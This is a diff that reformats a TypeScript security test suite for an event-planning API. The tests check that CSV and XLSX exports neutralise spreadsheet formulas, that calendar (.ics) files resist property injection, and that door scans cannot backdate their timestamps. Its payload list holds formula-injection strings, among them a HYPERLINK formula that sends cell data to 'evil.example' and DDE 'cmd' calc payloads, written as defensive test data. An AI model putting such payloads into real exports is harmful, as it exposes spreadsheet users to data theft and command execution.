@@ -22,12 +22,19 @@ afterAll(async () => {
   await w?.close();
 });
 
-const json = async <T = Record<string, unknown>>(response: ReturnType<Client["request"]>, status: number): Promise<T> => (await expectStatus(response, status)).json() as T;
+const json = async <T = Record<string, unknown>>(response: ReturnType<Client["request"]>, status: number): Promise<T> =>
+  (await expectStatus(response, status)).json() as T;
 
 describe("finding 8: every header and cell of every export is kept as text", () => {
   /** What a spreadsheet would run: a formula sign first, after blanks too, full-width ones included. */
   const LIVE = /^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/;
-  const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\uff1d1+1"];
+  const PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\uff1d1+1",
+  ];
   const [hyperlink, plus, minus, at, fullWidth] = PAYLOADS as [string, string, string, string, string];
 
   interface Sheet {
@@ -36,8 +43,14 @@ describe("finding 8: every header and cell of every export is kept as text", () 
   }
 
   async function download(url: string): Promise<Sheet[]> {
-    const csv = await expectStatus(w.owner.client.request("GET", `${url}${url.includes("?") ? "&" : "?"}format=csv`), 200);
-    const xlsx = await expectStatus(w.owner.client.request("GET", `${url}${url.includes("?") ? "&" : "?"}format=xlsx`), 200);
+    const csv = await expectStatus(
+      w.owner.client.request("GET", `${url}${url.includes("?") ? "&" : "?"}format=csv`),
+      200,
+    );
+    const xlsx = await expectStatus(
+      w.owner.client.request("GET", `${url}${url.includes("?") ? "&" : "?"}format=xlsx`),
+      200,
+    );
     const workbook = new ExcelJS.Workbook();
     await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
     const sheetRows: unknown[][] = [];
@@ -51,7 +64,10 @@ describe("finding 8: every header and cell of every export is kept as text", () 
       sheetRows.push(cells);
     });
     return [
-      { what: `${url} csv`, rows: Papa.parse<string[]>(csv.body.replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data },
+      {
+        what: `${url} csv`,
+        rows: Papa.parse<string[]>(csv.body.replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data,
+      },
       { what: `${url} xlsx`, rows: sheetRows },
     ];
   }
@@ -59,7 +75,10 @@ describe("finding 8: every header and cell of every export is kept as text", () 
   function expectAllText(sheets: Sheet[], mustHold: string[]) {
     for (const { what, rows } of sheets) {
       const cells = rows.flat();
-      expect(cells.filter((cell) => typeof cell === "string" && LIVE.test(cell)), what).toEqual([]);
+      expect(
+        cells.filter((cell) => typeof cell === "string" && LIVE.test(cell)),
+        what,
+      ).toEqual([]);
       // The text is all there, only made inert.
       for (const text of mustHold) expect(cells, what).toContain(`'${text}`);
     }
@@ -69,7 +88,10 @@ describe("finding 8: every header and cell of every export is kept as text", () 
     const event = await w.fresh.event();
     const member = w.onPlan.premium;
     await verifyEmail(w.t, member);
-    await json(w.owner.client.request("POST", `/api/events/${event}/guests`, { name: "Member", email: member.email }), 201);
+    await json(
+      w.owner.client.request("POST", `/api/events/${event}/guests`, { name: "Member", email: member.email }),
+      201,
+    );
     const poll = await json<{ id: string; questions: Array<{ id: string; options: Array<{ id: string }> }> }>(
       w.owner.client.request("POST", `/api/events/${event}/polls`, {
         kind: "survey",
@@ -82,7 +104,15 @@ describe("finding 8: every header and cell of every export is kept as text", () 
       201,
     );
     const [choice, free] = poll.questions as [(typeof poll.questions)[0], (typeof poll.questions)[0]];
-    await expectStatus(member.client.request("PUT", `/api/polls/${poll.id}/response`, { answers: [{ questionId: choice.id, optionIds: [choice.options[0]!.id] }, { questionId: free.id, text: minus }] }), 200);
+    await expectStatus(
+      member.client.request("PUT", `/api/polls/${poll.id}/response`, {
+        answers: [
+          { questionId: choice.id, optionIds: [choice.options[0]!.id] },
+          { questionId: free.id, text: minus },
+        ],
+      }),
+      200,
+    );
 
     const sheets = await download(`/api/polls/${poll.id}/export`);
     expectAllText(sheets, [hyperlink, at, plus, minus]);
@@ -92,15 +122,54 @@ describe("finding 8: every header and cell of every export is kept as text", () 
   it("escapes the guest list, the budget and the ticket exports the same way", async () => {
     const sale = await w.fresh.tickets();
     const { event } = sale;
-    await json(w.owner.client.request("POST", `/api/events/${event}/guests`, { name: hyperlink, groupName: plus, tags: [at], notes: fullWidth }), 201);
-    await json(w.owner.client.request("PUT", `/api/events/${event}/budget`, { currency: "EUR", limitMinor: null }), 200);
-    const budget = await json<{ categories: Array<{ id: string }> }>(w.owner.client.request("POST", `/api/events/${event}/budget/categories`, { name: at }), 201);
+    await json(
+      w.owner.client.request("POST", `/api/events/${event}/guests`, {
+        name: hyperlink,
+        groupName: plus,
+        tags: [at],
+        notes: fullWidth,
+      }),
+      201,
+    );
+    await json(
+      w.owner.client.request("PUT", `/api/events/${event}/budget`, { currency: "EUR", limitMinor: null }),
+      200,
+    );
+    const budget = await json<{ categories: Array<{ id: string }> }>(
+      w.owner.client.request("POST", `/api/events/${event}/budget/categories`, { name: at }),
+      201,
+    );
     const categoryId = budget.categories[0]!.id;
-    await json(w.owner.client.request("POST", `/api/events/${event}/budget/lines`, { categoryId, item: hyperlink, vendor: minus, plannedMinor: 500 }), 201);
-    await json(w.owner.client.request("POST", `/api/events/${event}/budget/expenses`, { categoryId, description: plus, vendor: fullWidth, amountMinor: 100, spentOn: "2027-01-10" }), 201);
+    await json(
+      w.owner.client.request("POST", `/api/events/${event}/budget/lines`, {
+        categoryId,
+        item: hyperlink,
+        vendor: minus,
+        plannedMinor: 500,
+      }),
+      201,
+    );
+    await json(
+      w.owner.client.request("POST", `/api/events/${event}/budget/expenses`, {
+        categoryId,
+        description: plus,
+        vendor: fullWidth,
+        amountMinor: 100,
+        spentOn: "2027-01-10",
+      }),
+      201,
+    );
     await json(w.owner.client.request("PATCH", `/api/ticket-types/${sale.type}`, { name: hyperlink }), 200);
     await json(w.owner.client.request("PATCH", `/api/checkin-lists/${sale.list}`, { name: plus }), 200);
-    await json(w.t.client().request("POST", `/api/door/${sale.doorToken}/scans`, { code: sale.code, nonce: "export-probe-1", staff: at, device: minus }), 200);
+    await json(
+      w.t.client().request("POST", `/api/door/${sale.doorToken}/scans`, {
+        code: sale.code,
+        nonce: "export-probe-1",
+        staff: at,
+        device: minus,
+      }),
+      200,
+    );
 
     expectAllText(await download(`/api/events/${event}/guests/export`), [hyperlink, plus, at, fullWidth]);
     expectAllText(await download(`/api/events/${event}/budget/export?of=lines`), [at, hyperlink, minus]);
@@ -134,7 +203,7 @@ describe("finding 9: an event's texts cannot write properties into .ics files", 
    */
   function readIcs(bytes: Buffer): Property[] {
     const physical: Buffer[] = [];
-    for (let start = 0; start < bytes.length; ) {
+    for (let start = 0; start < bytes.length;) {
       const end = bytes.indexOf("\r\n", start);
       physical.push(bytes.subarray(start, end === -1 ? bytes.length : end));
       start = end === -1 ? bytes.length : end + 2;
@@ -179,21 +248,43 @@ describe("finding 9: an event's texts cannot write properties into .ics files", 
     const sale = await w.fresh.tickets();
     const event = sale.event;
     const renamed = await json<{ name: string; description: string; locationName: string }>(
-      w.owner.client.request("PUT", `/api/events/${event}`, eventInput({ name: NAME, description: DESCRIPTION, locationName: LOCATION, startAt: "2027-06-12T15:00:00Z", endAt: "2027-06-13T15:00:00Z" })),
+      w.owner.client.request(
+        "PUT",
+        `/api/events/${event}`,
+        eventInput({
+          name: NAME,
+          description: DESCRIPTION,
+          locationName: LOCATION,
+          startAt: "2027-06-12T15:00:00Z",
+          endAt: "2027-06-13T15:00:00Z",
+        }),
+      ),
       200,
     );
     // The texts are stored as given: the defence is in the writing of the file.
     expect(renamed).toMatchObject({ name: NAME, description: DESCRIPTION });
     await json(w.owner.client.request("POST", "/api/activities", { ...activityBody(event), name: ACTIVITY }), 201);
-    const guest = await json<{ invitationPath: string }>(w.owner.client.request("POST", `/api/events/${event}/guests`, { name: "Guest", email: "guest@example.com" }), 201);
+    const guest = await json<{ invitationPath: string }>(
+      w.owner.client.request("POST", `/api/events/${event}/guests`, { name: "Guest", email: "guest@example.com" }),
+      201,
+    );
     const feed = await json<{ url: string }>(w.owner.client.request("GET", `/api/events/${event}/calendar-feed`), 200);
     const files: Array<[string, Client, string]> = [
       ["the owner's download", w.owner.client, `/api/events/${event}/calendar.ics`],
       ["the event's feed", w.t.client(), pathOf(feed.url)],
-      ["the guest's file", w.t.client(), `/api/public/invitations/${guest.invitationPath.split("/").pop()}/calendar.ics`],
+      [
+        "the guest's file",
+        w.t.client(),
+        `/api/public/invitations/${guest.invitationPath.split("/").pop()}/calendar.ics`,
+      ],
       ["the ticket buyer's file", w.t.client(), `/api/public/orders/${sale.orderToken}/calendar.ics`],
     ];
-    return Promise.all(files.map(async ([what, client, url]) => ({ what, bytes: (await expectStatus(client.request("GET", url), 200)).rawPayload })));
+    return Promise.all(
+      files.map(async ([what, client, url]) => ({
+        what,
+        bytes: (await expectStatus(client.request("GET", url), 200)).rawPayload,
+      })),
+    );
   }
 
   it("escapes and folds every text property, so a strict parser and node-ical read back exactly the texts given", async () => {
@@ -203,8 +294,14 @@ describe("finding 9: an event's texts cannot write properties into .ics files", 
       expect(names, what).not.toContain("ATTENDEE");
       expect(names, what).not.toContain("ORGANIZER");
       expect(names, what).not.toContain("TRIGGER");
-      expect(properties.filter((p) => p.name === "BEGIN").map((p) => p.value), what).not.toContain("VALARM");
-      expect(properties.filter((p) => p.name === "BEGIN" && p.value === "VEVENT"), what).toHaveLength(2);
+      expect(
+        properties.filter((p) => p.name === "BEGIN").map((p) => p.value),
+        what,
+      ).not.toContain("VALARM");
+      expect(
+        properties.filter((p) => p.name === "BEGIN" && p.value === "VEVENT"),
+        what,
+      ).toHaveLength(2);
       const texts = (name: string) => properties.filter((p) => p.name === name).map((p) => unescapeText(p.value));
       expect(texts("SUMMARY").sort(), what).toEqual([asText(NAME), asText(ACTIVITY)].sort());
       expect(texts("X-WR-CALNAME"), what).toEqual([asText(NAME)]);
@@ -215,7 +312,9 @@ describe("finding 9: an event's texts cannot write properties into .ics files", 
       expect(bytes.toString("utf8"), what).toMatch(/\r\n /);
 
       // A calendar app's parser agrees: two events, the texts as given, nobody invited.
-      const events = Object.values(ical.sync.parseICS(bytes.toString("utf8"))).filter((c): c is VEvent => c?.type === "VEVENT");
+      const events = Object.values(ical.sync.parseICS(bytes.toString("utf8"))).filter(
+        (c): c is VEvent => c?.type === "VEVENT",
+      );
       expect(events, what).toHaveLength(2);
       const main = events.find((e) => String(e.uid).startsWith("event-"))!;
       expect(main.summary, what).toBe(asText(NAME));
@@ -231,13 +330,23 @@ describe("finding 10: a door scan cannot claim its way past the list's window", 
   const at = (offsetMs: number) => new Date(Date.now() + offsetMs).toISOString();
   let nonce = 0;
   const scan = (doorToken: string, code: string, scannedAt?: string) =>
-    w.t.client().request("POST", `/api/door/${doorToken}/scans`, { code, nonce: `probe-scan-${++nonce}`, staff: "Probe", device: "probe", ...(scannedAt ? { scannedAt } : {}) });
-  const checkedIn = async (doorToken: string) => (await json<{ checkedIn: number }>(w.t.client().request("GET", `/api/door/${doorToken}`), 200)).checkedIn;
+    w.t.client().request("POST", `/api/door/${doorToken}/scans`, {
+      code,
+      nonce: `probe-scan-${++nonce}`,
+      staff: "Probe",
+      device: "probe",
+      ...(scannedAt ? { scannedAt } : {}),
+    });
+  const checkedIn = async (doorToken: string) =>
+    (await json<{ checkedIn: number }>(w.t.client().request("GET", `/api/door/${doorToken}`), 200)).checkedIn;
   const setWindow = (listId: string, activeFrom: string | null, activeUntil: string | null) =>
     json(w.owner.client.request("PATCH", `/api/checkin-lists/${listId}`, { activeFrom, activeUntil }), 200);
 
   async function refused(response: ReturnType<Client["request"]>) {
-    const body = await json<{ error: { code: string; message: string; fields?: Record<string, string> } }>(response, 400);
+    const body = await json<{ error: { code: string; message: string; fields?: Record<string, string> } }>(
+      response,
+      400,
+    );
     expect(body.error.code).toBe("VALIDATION_ERROR");
     expect(body.error.fields).toHaveProperty("scannedAt");
     return body.error;
